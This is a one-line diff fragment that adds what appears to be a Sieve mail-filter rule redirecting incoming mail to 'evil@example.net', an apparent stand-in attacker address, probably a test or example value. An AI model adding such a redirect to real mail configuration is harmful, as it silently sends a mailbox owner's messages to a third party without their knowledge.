@@ -1,0 +1,1 @@
+redirect "evil@example.net"
